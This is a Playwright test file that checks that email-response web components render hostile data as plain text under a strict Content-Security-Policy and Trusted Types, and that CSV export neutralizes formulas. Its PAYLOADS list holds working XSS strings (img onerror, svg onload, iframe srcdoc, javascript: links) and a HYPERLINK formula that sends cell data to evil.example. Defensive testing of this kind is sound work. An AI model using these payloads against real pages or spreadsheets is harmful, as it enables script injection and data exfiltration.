// Issue 9, part 2: the elements on a strict page. A real HTTP server on 127.0.0.1 serves a page
// with a Content-Security-Policy header (no 'unsafe-inline', no 'unsafe-eval') and Trusted Types
// enforced; the page loads the one-script-tag IIFE build and puts <email-responses> with the
// grid, the timeline and the summary on it, fed hostile data through a same-origin script.
// Playwright drives Chromium; the test asserts no policy violation, no error, and rows as text.
//
// The minimal policy that works (documented in the report): Lit, inside the IIFE, creates one
// Trusted Types policy named `lit-html` for its own templates, so `trusted-types 'none'` blocks
// the library from loading; `trusted-types lit-html` is all it needs. Styles are constructable
// stylesheets (adoptedStyleSheets) and CSSOM property sets, which `style-src 'self'` allows.
//
// Run by scripts/test-faults.mjs (`node --test`); builds the IIFE into a temporary folder first
// (a second, ~1 s) so it tests the sources as they are, not a stale dist/.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { CHROMIUM_ARGS, ensureChromium } from '../../scripts/chromium.mjs';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

/** The policies served; `?policy=<name>` picks one for the page. */
const POLICIES = {
  // The minimal strict policy that works: no inline script or style, no eval, Trusted Types
  // enforced with only Lit's own policy allowed.
  strict:
    "default-src 'self'; script-src 'self'; style-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; " +
    "require-trusted-types-for 'script'; trusted-types lit-html",
  // The policy as first written in the task: no Trusted Types policy at all may be created.
  none: "default-src 'self'; script-src 'self'; style-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'",
  // CSP alone, without Trusted Types.
  cspOnly: "default-src 'self'; script-src 'self'; style-src 'self'; object-src 'none'; base-uri 'none'",
};

/** What `trusted-types 'none'` would still object to, reported without blocking, on the strict page. */
const REPORT_ONLY_NONE = "require-trusted-types-for 'script'; trusted-types 'none'";

const PAYLOADS = [
  `<img src=x onerror="window.__faultsPwned='img'">`,
  `<script>window.__faultsPwned='script'</script>`,
  `"><svg onload="window.__faultsPwned='svg'"></svg>`,
  `'><iframe srcdoc="<script>parent.__faultsPwned='iframe'</script>"></iframe>`,
  `<a href="javascript:window.__faultsPwned='a'">click</a>`,
  `<style>*{display:none!important}</style>`,
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
];

/** Registers before anything else runs, so violations during the library's load are heard. */
const LISTEN_JS = `
window.__violations = [];
window.__errors = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push({ directive: e.violatedDirective, disposition: e.disposition, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile + ':' + e.lineNumber });
});
window.addEventListener('error', (e) => window.__errors.push(String(e.message)));
window.addEventListener('unhandledrejection', (e) => window.__errors.push(String(e.reason && e.reason.message || e.reason)));
`;

/** The host page's own script: hostile data into a store, the store onto <email-responses>. */
const PAGE_JS = `
const PAYLOADS = ${JSON.stringify(PAYLOADS)};
const EMAIL = PAYLOADS[2];
const CONTACT = PAYLOADS[3];
const BASE = Date.UTC(2026, 0, 1);
const responses = ['delivered', 'opened', 'clicked', 'unsubscribed', 'soft-bounce', 'hard-bounce', 'spam-complaint'];
const events = [];
for (let i = 0; i < 400; i++) {
  const p = (k) => PAYLOADS[(i + k) % PAYLOADS.length];
  const response = responses[i % responses.length];
  events.push({
    id: 'ev-' + i + p(0), emailId: EMAIL, recipientId: 'r-' + i + p(1), response, at: BASE + i * 60000,
    contactId: i % 3 === 0 ? CONTACT : 'c-' + i, contactName: p(2) + ' #' + i, address: 'r' + i + p(3) + '@example.com',
    emailKind: 'bulk', emailType: PAYLOADS[4], provider: p(5).slice(0, 64), reason: p(6),
    ...(response === 'clicked' ? { url: 'https://example.com/?q=' + encodeURIComponent(p(0)) + '&raw=' + p(1) } : {}),
  });
}
const { createResponseStore } = window.EmailResponses;
const store = createResponseStore();
const root = document.getElementById('root');
root.store = store;
for (const el of root.querySelectorAll('audience-response-grid, response-summary')) el.emailId = EMAIL;
root.querySelector('contact-response-timeline').contactId = CONTACT;
store.ingest(events).then((result) => {
  window.__ingested = { accepted: result.accepted, rejected: result.rejected.map((r) => r.reason) };
  store.flush();
  window.__store = store;
});
`;

const PAGE_HTML = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>email-responses on a strict page</title>
<script src="/listen.js"></script>
<script src="/email-responses.iife.js"></script>
<script src="/page.js" defer></script>
</head>
<body>
<email-responses id="root">
  <response-summary></response-summary>
  <audience-response-grid columns="provider email-type" time-zone="UTC"></audience-response-grid>
  <contact-response-timeline time-zone="UTC"></contact-response-timeline>
</email-responses>
</body>
</html>`;

let tmp;
let iife;
let server;
let origin;
let browser;

before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'email-responses-iife-'));
  const build = spawnSync('npx', ['vite', 'build', '--mode', 'iife', '--outDir', tmp, '--logLevel', 'warn'], {
    cwd: ROOT,
    encoding: 'utf8',
  });
  assert.equal(build.status, 0, `the IIFE build failed:\n${build.stdout}\n${build.stderr}`);
  iife = readFileSync(join(tmp, 'email-responses.iife.js'));
  server = createServer((request, response) => {
    const url = new URL(request.url, 'http://localhost');
    const send = (status, type, body, headers = {}) => {
      response.writeHead(status, { 'content-type': type, 'cache-control': 'no-store', ...headers });
      response.end(body);
    };
    switch (url.pathname) {
      case '/page.html': {
        const headers = { 'content-security-policy': POLICIES[url.searchParams.get('policy') ?? 'strict'] };
        if (url.searchParams.has('report-none')) headers['content-security-policy-report-only'] = REPORT_ONLY_NONE;
        return send(200, 'text/html; charset=utf-8', PAGE_HTML, headers);
      }
      case '/listen.js':
        return send(200, 'text/javascript; charset=utf-8', LISTEN_JS);
      case '/page.js':
        return send(200, 'text/javascript; charset=utf-8', PAGE_JS);
      case '/email-responses.iife.js':
        return send(200, 'text/javascript; charset=utf-8', iife);
      case '/favicon.ico':
        return send(204, 'image/x-icon', '');
      default:
        // The IIFE's lazy parts (the views, the cache), loaded from next to it under the same policy.
        if (/^\/iife\/[\w/-]+\.js$/.test(url.pathname))
          return send(200, 'text/javascript; charset=utf-8', readFileSync(join(tmp, url.pathname)));
        return send(404, 'text/plain', 'not found');
    }
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${server.address().port}`;
  browser = await chromium.launch({ executablePath: ensureChromium(), headless: true, args: CHROMIUM_ARGS });
});

after(async () => {
  await browser?.close();
  await new Promise((resolve) => (server ? server.close(resolve) : resolve()));
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

/** Opens the page under a policy; collects console errors and page errors from the start. */
async function open(query) {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  const consoleErrors = [];
  page.on('console', (message) => {
    if (message.type() === 'error') consoleErrors.push(message.text());
  });
  page.on('pageerror', (error) => consoleErrors.push(`pageerror: ${error.message}`));
  await page.goto(`${origin}/page.html?${query}`);
  return { context, page, consoleErrors };
}

/** Waits until the three elements rendered the data. */
async function rendered(page) {
  await page.waitForFunction(
    () => {
      const grid = document.querySelector('audience-response-grid');
      const timeline = document.querySelector('contact-response-timeline');
      const summary = document.querySelector('response-summary');
      return (
        window.__store &&
        grid?.shadowRoot?.querySelectorAll('[role="row"][data-index]').length > 5 &&
        timeline?.shadowRoot?.querySelector('li.email') &&
        summary?.shadowRoot?.querySelector('[data-figure]')
      );
    },
    undefined,
    { timeout: 30_000 },
  );
  // Let any handler an injected element would have (onerror, onload) fire.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
}

/** What the elements show, read through their shadow roots. */
function inspect(page) {
  return page.evaluate((payloads) => {
    const all = (root) =>
      [...root.querySelectorAll('*')].flatMap((el) => [el, ...(el.shadowRoot ? all(el.shadowRoot) : [])]);
    const report = {};
    for (const tag of ['audience-response-grid', 'contact-response-timeline', 'response-summary']) {
      const root = document.querySelector(tag).shadowRoot;
      const elements = all(root);
      const text = root.textContent ?? '';
      report[tag] = {
        elements: elements.length,
        foreign: elements
          .filter((el) => ['script', 'img', 'iframe', 'a', 'style', 'object', 'embed'].includes(el.localName))
          .map((el) => el.outerHTML.slice(0, 60)),
        handlers: elements.flatMap((el) => el.getAttributeNames().filter((name) => name.startsWith('on'))),
        svg: elements.filter((el) => el.localName === 'svg').length,
        shown: payloads.filter((p) => text.includes(p)).length,
        styleSheets: root.adoptedStyleSheets.length,
      };
    }
    const grid = document.querySelector('audience-response-grid');
    report.gridRows = grid.shadowRoot.querySelectorAll('[role="row"][data-index]').length;
    report.firstRow = [...grid.shadowRoot.querySelectorAll('[role="row"][data-index]')][0]?.textContent
      .replace(/\s+/g, ' ')
      .trim();
    report.gridHeight = grid.shadowRoot.querySelector('[role="grid"]').getBoundingClientRect().height;
    report.pwned = window.__faultsPwned ?? null;
    report.ingested = window.__ingested;
    report.violations = window.__violations;
    report.errors = window.__errors;
    return report;
  }, PAYLOADS);
}

describe('the elements on a strict page (CSP without unsafe-inline or unsafe-eval, Trusted Types enforced)', () => {
  test('they load, render hostile data as text, scroll and export with no violation and no error', async () => {
    const { context, page, consoleErrors } = await open('policy=strict');
    try {
      await rendered(page);
      const report = await inspect(page);
      assert.deepEqual(report.violations, [], 'no CSP or Trusted Types violation');
      assert.deepEqual(report.errors, [], 'no error in the page');
      assert.deepEqual(consoleErrors, [], 'no console error');
      assert.equal(report.pwned, null, 'no payload ran');
      assert.deepEqual(report.ingested.rejected, []);
      assert.equal(report.ingested.accepted, 400);
      for (const tag of ['audience-response-grid', 'contact-response-timeline', 'response-summary']) {
        assert.deepEqual(report[tag].foreign, [], `${tag}: no element from the data`);
        assert.deepEqual(report[tag].handlers, [], `${tag}: no handler attribute`);
        assert.ok(report[tag].shown >= 1, `${tag}: hostile text shown as text`);
        assert.ok(report[tag].styleSheets >= 1, `${tag}: styled by adopted stylesheets`);
      }
      assert.equal(report['response-summary'].svg, 1, 'the summary draws its chart of opens and clicks over time');
      assert.ok(report.gridRows > 5, 'the grid rendered rows');
      assert.ok(report.gridHeight > 100, 'the grid is laid out (its styles applied)');
      assert.match(report.firstRow, /#0/);
      // The grid's view of the store comes with the grid's part, not in the script itself.
      assert.equal(
        await page.evaluate(() => typeof window.EmailResponses.AudienceView?.prototype.rowsWith),
        'function',
        'EmailResponses.AudienceView is the class once the grid has loaded',
      );
      assert.ok(!iife.includes('rowsWith('), "the script itself holds none of AudienceView's code");

      // Scrolling moves the virtual window (inline positions set through the CSSOM).
      const before = report.firstRow;
      await page.evaluate(() => {
        const scroller = document.querySelector('audience-response-grid').shadowRoot.querySelector('[role="grid"]');
        scroller.scrollTop = 5000;
      });
      await page.waitForFunction(
        (first) => {
          const rows = [
            ...document.querySelector('audience-response-grid').shadowRoot.querySelectorAll('[role="row"][data-index]'),
          ];
          return rows.length > 0 && !rows.some((row) => row.textContent.replace(/\s+/g, ' ').trim() === first);
        },
        before,
        { timeout: 10_000 },
      );

      // The CSV download (a Blob URL and a detached link) works under the policy, formulas neutralized.
      const download = page.waitForEvent('download', { timeout: 10_000 });
      await page.evaluate(() =>
        document.querySelector('audience-response-grid').shadowRoot.querySelector('[part~="export-button"]').click(),
      );
      const file = await (await download).path();
      const csv = readFileSync(file, 'utf8');
      assert.ok(
        csv.includes(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`),
        'the formula is neutralized in the file',
      );

      const after = await inspect(page);
      assert.deepEqual(after.violations, [], 'no violation after scrolling and exporting');
      assert.deepEqual(after.errors, []);
      assert.deepEqual(consoleErrors, []);
    } finally {
      await context.close();
    }
  });

  test('with CSP alone (no Trusted Types) they work the same', async () => {
    const { context, page, consoleErrors } = await open('policy=cspOnly');
    try {
      await rendered(page);
      const report = await inspect(page);
      assert.deepEqual(report.violations, []);
      assert.deepEqual(report.errors, []);
      assert.deepEqual(consoleErrors, []);
      assert.equal(report.pwned, null);
    } finally {
      await context.close();
    }
  });

  test("Lit's `lit-html` policy is the only thing `trusted-types 'none'` would object to (report-only probe)", async () => {
    const { context, page } = await open('policy=strict&report-none');
    try {
      await rendered(page);
      const report = await inspect(page);
      const reported = report.violations.filter((v) => v.disposition === 'report');
      assert.deepEqual(
        report.violations.filter((v) => v.disposition !== 'report'),
        [],
        'nothing enforced was violated',
      );
      assert.deepEqual(
        reported.map((v) => [v.directive, v.sample]),
        [['trusted-types', 'lit-html']],
        `only the creation of Lit's policy is reported: ${JSON.stringify(reported)}`,
      );
    } finally {
      await context.close();
    }
  });

  test("under `trusted-types 'none'` (no policy at all) the library cannot load: hosts must allow `lit-html`", async () => {
    const { context, page, consoleErrors } = await open('policy=none');
    try {
      await page.waitForFunction(() => window.__violations?.length > 0, undefined, { timeout: 10_000 });
      const state = await page.evaluate(() => ({
        violations: window.__violations,
        defined: Boolean(customElements.get('audience-response-grid')),
      }));
      assert.deepEqual(
        state.violations.map((v) => [v.directive, v.sample]),
        [['trusted-types', 'lit-html']],
      );
      assert.equal(state.defined, false);
      assert.ok(
        consoleErrors.some((text) => /lit-html/.test(text)),
        'the page says why',
      );
    } finally {
      await context.close();
    }
  });
});
